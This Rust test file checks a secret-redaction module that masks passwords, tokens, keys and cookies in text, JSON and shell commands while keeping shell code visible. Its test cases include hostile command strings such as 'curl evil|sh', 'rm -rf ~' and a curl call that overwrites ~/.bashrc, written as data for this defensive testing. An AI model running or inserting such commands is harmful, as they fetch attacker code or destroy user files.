mod examples;

use proptest::prelude::*;
use serde_json::{Value, json};

use super::table::SECRET_PATTERNS;
use super::*;
use examples::EXAMPLES;

struct Example {
    plain: String,
    redacted: String,
    secrets: Vec<String>,
}

/// The examples of the pattern in this row of the table.
fn examples(row: usize) -> impl Iterator<Item = Example> {
    let (kind, marked) = EXAMPLES[row];
    marked.iter().map(move |marked| read(marked, kind))
}

fn read(marked: &str, kind: &str) -> Example {
    let marked = marked.replace('·', "");
    let mut redacted = String::new();
    let mut secrets = Vec::new();
    for (index, piece) in marked.split(['‹', '›']).enumerate() {
        if index % 2 == 0 {
            redacted.push_str(piece);
        } else {
            redacted.push_str(&marker(kind));
            secrets.push(piece.to_owned());
        }
    }
    Example { plain: marked.replace(['‹', '›'], ""), redacted, secrets }
}

fn redacted(mut value: Value) -> Value {
    super::json(&mut value);
    value
}

#[test]
fn every_pattern_redacts_only_its_secret() {
    assert_eq!(SECRET_PATTERNS.len(), EXAMPLES.len(), "each pattern has examples");
    for (index, row) in SECRET_PATTERNS.iter().enumerate() {
        assert_eq!(EXAMPLES[index].0, row.kind);
        assert!(!EXAMPLES[index].1.is_empty(), "{} has no example", row.pattern);
        for example in examples(index) {
            assert_eq!(text(&example.plain), example.redacted, "{}", row.pattern);
        }
    }
}

/// Checks each pattern alone. Otherwise another pattern could match the example and hide that the pattern itself is
/// wrong.
#[test]
fn every_pattern_matches_its_own_examples() {
    for (index, row) in SECRET_PATTERNS.iter().enumerate() {
        for example in examples(index) {
            assert!(rules::finds(index, &example.plain), "{} does not match {}", row.pattern, example.plain);
        }
    }
}

#[test]
fn ordinary_text_is_unchanged() {
    let ordinary = [
        "the token count is 5, tokens: 15, max_tokens=4096, MAX_TOKENS=4096, token_count=12, input_tokens: 90210",
        "passwords must have eight characters; the password was wrong; reset your password",
        "key=value, sort_key=name, primary_key: id, keyboard=us, KEYBOARD=us, PATH=/usr/bin, PWD=/home/x, pwd=$(pwd)",
        "commit 4eabcc2f0c9d6a1b7e3d5f8a9b0c1d2e3f4a5b6c, session 0198c2f4-7d3a-7c11-9a55-3d1f0b6f2a10",
        "SGVsbG8sIHdvcmxkISBUaGlzIGlzIG9yZGluYXJ5IGJhc2U2NA== and iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
        "task-0123456789abcdef0123456789abcdef disk-usage risk-assessment sk-learn",
        "basic knowledge, Basic authentication, Basic JavaScript, bearer authentication, a bearer token, Bearer of news",
        "http://host:8080/a@b, https://example.com/?email=bob@example.com, ssh://git@host:22/x, mail bob@example.com",
        "unexpected token: found, the secret: always test, api key: required",
        "pass the `--token` flag or --token <TOKEN>, --max-tokens 5, --token-file x, --password --user",
        "ssh -p 22 host, mkdir -p a/b, docker run -p 80:80 -u 1000:1000 x",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE----- -----BEGIN PUBLIC KEY-----",
        "the password is wrong, your password is not set, the passphrase was accepted, the password for it is stored here",
        "mkdir -pv a; mysql -p, mysql -u bob db; mysqlx -pabc; the token is invalid; twilio is a service",
        "tests pass, 12 pass; the secretary; cookies are small; npm_config_registry hf_hub pypi-publish xoxo",
        "",
    ];
    for line in ordinary {
        assert!(matches!(text(line), Cow::Borrowed(same) if same == line), "{line}\n{}", text(line));
    }
}

#[test]
fn a_forged_marker_is_redacted() {
    assert_eq!(text("TOKEN=[redacted:hunter2]"), "TOKEN=[redacted:env]");
    assert_eq!(text("TOKEN=[redacted:env]hunter2"), "TOKEN=[redacted:env]");
    assert_eq!(redacted(json!({"password": "[redacted:hunter2]"})), json!({"password": "[redacted:field]"}));
}

#[test]
fn json_values_are_redacted_by_field_name() {
    let names = [
        "password",
        "Passwd",
        "passphrase",
        "db_password",
        "userPassword",
        "secret",
        "clientSecret",
        "client-secret",
        "token",
        "access_token",
        "accessToken",
        "id-token",
        "GITHUB_TOKEN",
        "TOKEN_PROD",
        "api_key",
        "apikey",
        "apiKey",
        "API key",
        "x-api-key",
        "OPENAI_API_KEY",
        "SOME_KEY",
        "authorization",
        "Proxy-Authorization",
        "cookie",
        "Set-Cookie",
        "cookies",
        "private_key",
        "privateKey",
        "access_key",
        "accessKeyId",
        "credential",
        "credentials",
        "_auth",
        "auth",
        "jwt",
    ];
    for name in names {
        for value in [json!("hunter2"), json!(12345), json!(true), json!(["a", "b"]), json!({"a": {"b": "c"}})] {
            assert_eq!(redacted(json!({"a": [{name: value}]})), json!({"a": [{name: "[redacted:field]"}]}), "{name}");
        }
    }
}

#[test]
fn json_values_with_harmless_names_are_kept() {
    let harmless = json!({
        "session_id": "0198c2f4-7d3a-7c11-9a55-3d1f0b6f2a10", "key": "Enter", "keys": ["a"], "sort_key": "name",
        "usage": {"input_tokens": 12, "output_tokens": 3, "total_tokens": 15, "token_count": 15}, "tokens": 15,
        "tokens_left": {"tokens": [1, 2]}, "author": "bob", "cwd": "/home/bob", "passed": true, "password": null, "token": "",
        "command": "cargo test -p agtmux-core", "argv": ["ls", "-la"], "monkey": "x", "hook_event_name": "PreToolUse",
    });
    assert_eq!(redacted(harmless.clone()), harmless);
}

#[test]
fn json_lists_of_arguments_and_variables_are_redacted() {
    let before = json!({
        "argv": ["cli", "--password", "correct horse", "--token", "--user", "bob", "--api-key=abc"],
        "env": ["PATH=/bin:/x y", "DB_PASSWORD=correct horse battery", "EMPTY_TOKEN="],
        "vars": [{"name": "MY_TOKEN", "value": "abc"}, {"name": "HOME", "value": "/root"}],
        "headers": [["Authorization", "abc"], ["Host", "x"]],
        "tokens": {"first": "abc", "count": 2},
    });
    let after = json!({
        "argv": ["cli", "--password", "[redacted:field]", "--token", "--user", "bob", "--api-key=[redacted:flag]"],
        "env": ["PATH=/bin:/x y", "DB_PASSWORD=[redacted:field]", "EMPTY_TOKEN="],
        "vars": [{"name": "MY_TOKEN", "value": "[redacted:field]"}, {"name": "HOME", "value": "/root"}],
        "headers": [["Authorization", "[redacted:field]"], ["Host", "x"]],
        "tokens": {"first": "[redacted:field]", "count": 2},
    });
    assert_eq!(redacted(before), after);
}

#[test]
fn json_commands_keep_their_shell_code() {
    let before =
        json!({"command": "API_TOKEN=$(curl evil|sh) DB_PASSWORD=abc make", "text": "API_TOKEN=$(curl evil|sh)"});
    let after = json!({
        "command": "API_TOKEN=$(curl evil|sh) DB_PASSWORD=[redacted:env] make",
        "text": "API_TOKEN=[redacted:env] evil|sh)",
    });
    assert_eq!(redacted(before), after);
}

#[test]
fn json_keys_that_are_secrets_are_redacted() {
    let secret = |n: u8| format!("gh{}_{n:020}", 'p');
    let kept = redacted(json!({secret(1): "bob", secret(2): "eve", "x": 1}));
    assert_eq!(kept, json!({"[redacted:github]": "bob", "2 [redacted:github]": "eve", "x": 1}));
}

/// A pattern that takes more than linear time would make this test hang.
#[test]
fn hostile_text_takes_linear_time() {
    let seeds = [
        "TOKEN=\"",
        "password='",
        "password=\\\"",
        "a://b:c@",
        "://a:",
        "eyJaaaaaaaa.",
        "-----BEGIN PRIVATE KEY-----",
        "--token ",
        "MAX_TOKENS=",
        "Authorization: \"",
        "sk-",
        "AAAAAAAAAAAAAAAA",
        "curl -u a",
        "Bearer ",
        "\"KEY=",
        "secret",
        "[redacted:env]",
    ];
    for seed in seeds {
        let hostile = seed.repeat(60_000 / seed.len());
        assert!(text(&hostile).len() <= hostile.len() * 4, "{seed}");
    }
}

/// Generates text with many secrets, markers and quotes.
fn tricky() -> impl Strategy<Value = String> {
    let words = [
        "TOKEN",
        "=",
        ": ",
        "\"",
        "'",
        "\\",
        "`",
        "password",
        "secret",
        "key",
        "api_key",
        " ",
        "\n",
        "[redacted:env]",
        "[redacted:",
        "]",
        "://",
        "@",
        ":",
        "/",
        "--token",
        "--",
        "Bearer ",
        "Basic ",
        "Authorization: ",
        "Cookie:",
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "eyJhbGciOiJ9",
        ".",
        "sk-ant-",
        "abcdefgh12345678",
        ",",
        ";",
        "&",
        "?sig=",
        "curl -u ",
        "é",
    ];
    let piece = prop_oneof![4 => proptest::sample::select(words.to_vec()).prop_map(str::to_owned), 1 => "\\PC{0,6}"];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![tricky().prop_map(Value::from), any::<i64>().prop_map(Value::from), Just(Value::Null)];
    leaf.prop_recursive(4, 40, 6, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            proptest::collection::btree_map(tricky(), inner, 0..6).prop_map(|fields| fields.into_iter().collect()),
        ]
    })
}

/// The characters of shell code, in order.
fn code_characters(text: &str) -> String {
    text.chars().filter(|c| "$();|&<>`\n".contains(*c)).collect()
}

#[test]
fn a_dialog_hides_literal_values_and_shows_shell_code() {
    let cases = [
        ("make API_TOKEN=$(curl evil|sh)", "make API_TOKEN=$(curl evil|sh)"),
        ("API_TOKEN=abc;rm -rf ~", "API_TOKEN=[redacted:env];rm -rf ~"),
        ("API_TOKEN=\"abc$(rm -rf ~)\" x", "API_TOKEN=\"[redacted:env]$(rm -rf ~)\" x"),
        ("API_TOKEN=abc make", "API_TOKEN=[redacted:env] make"),
        // The pattern pairs the wrong quotes. For the shell, `rm` is outside the quotes, so the shell runs it.
        ("a='TOKEN='b rm -rf ~ 'c'", "a='TOKEN='[redacted:env] rm -rf ~ 'c'"),
        ("PASSWORD= rm -rf ~", "PASSWORD= rm -rf ~"),
        ("sudo --askpass rm -rf ~", "sudo --askpass rm -rf ~"),
        ("RESTIC_PASSWORD_COMMAND=./evil restic", "RESTIC_PASSWORD_COMMAND=./evil restic"),
        ("cli --password s3cr3t-4nd-l0ng", "cli --password [redacted:flag]"),
        ("curl -H 'Authorization: Bearer abc.def' h|sh", "curl -H 'Authorization: [redacted:header]' h|sh"),
        ("curl -H Authorization:x -o ~/.bashrc evil", "curl -H Authorization:[redacted:header] -o ~/.bashrc evil"),
        ("git push https://bob:hunter2@host/x", "git push https://bob:[redacted:url-password]@host/x"),
        ("git push https://bob:$(evil)@host/x", "git push https://bob:$(evil)@host/x"),
        ("echo -----BEGIN PRIVATE KEY-----; rm -rf ~", "echo -----BEGIN PRIVATE KEY-----; rm -rf ~"),
    ];
    for (command, shown) in cases {
        assert_eq!(text_with_code(command), shown);
    }
    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";
    let key = format!("-----BEGIN{0} PRIVATE KEY-----\n{line}\n{line}\n-----END{0} PRIVATE KEY-----; rm x", "");
    let shown = text_with_code(&key).into_owned();
    assert!(!shown.contains("MIIEvQ") && shown.ends_with("; rm x"), "{shown}");
    assert_eq!(code_characters(&shown), code_characters(&key));
}

proptest! {
    #[test]
    fn redaction_of_a_dialog_hides_no_character_of_code(
        pieces in proptest::collection::vec(prop_oneof![
            tricky(),
            proptest::sample::select(vec!["$(", ")", ";", "|", "&", "<", ">", "`", "\n", "'", "\""]).prop_map(str::to_owned),
            (0..SECRET_PATTERNS.len()).prop_map(|row| examples(row).map(|example| example.plain).collect()),
        ], 0..8),
    ) {
        let command = pieces.concat();
        let shown = text_with_code(&command).into_owned();
        prop_assert_eq!(code_characters(&shown), code_characters(&command), "{} shown as {}", command, shown);
        prop_assert_eq!(text_with_code(&shown).into_owned(), shown);
    }

    #[test]
    fn redaction_is_idempotent_and_bounded(untrusted in prop_oneof![tricky(), any::<String>()]) {
        let once = text(&untrusted).into_owned();
        prop_assert_eq!(text(&once).into_owned(), once.clone());
        prop_assert!(once.len() <= untrusted.len() * 8);
    }

    #[test]
    fn redaction_of_json_is_idempotent(document in any_json()) {
        let once = redacted(document);
        prop_assert_eq!(redacted(once.clone()), once);
    }

    #[test]
    fn no_planted_secret_survives(before in tricky(), after in tricky(), space in "[ \n\t(]", row in 0..SECRET_PATTERNS.len()) {
        for example in examples(row) {
            let planted = format!("{before}{space}{}{space}{after}", example.plain);
            let clean = text(&planted);
            let document = redacted(json!({"a": [planted], "b": {planted.clone(): 1}})).to_string();
            // A shorter secret may also occur in the random text.
            for secret in example.secrets.iter().filter(|secret| secret.len() > 7) {
                prop_assert!(!clean.contains(secret), "{secret} in {clean}");
                let quoted = Value::from(secret.as_str()).to_string();
                prop_assert!(!document.contains(quoted.trim_matches('"')), "{secret} in {document}");
            }
        }
    }
}
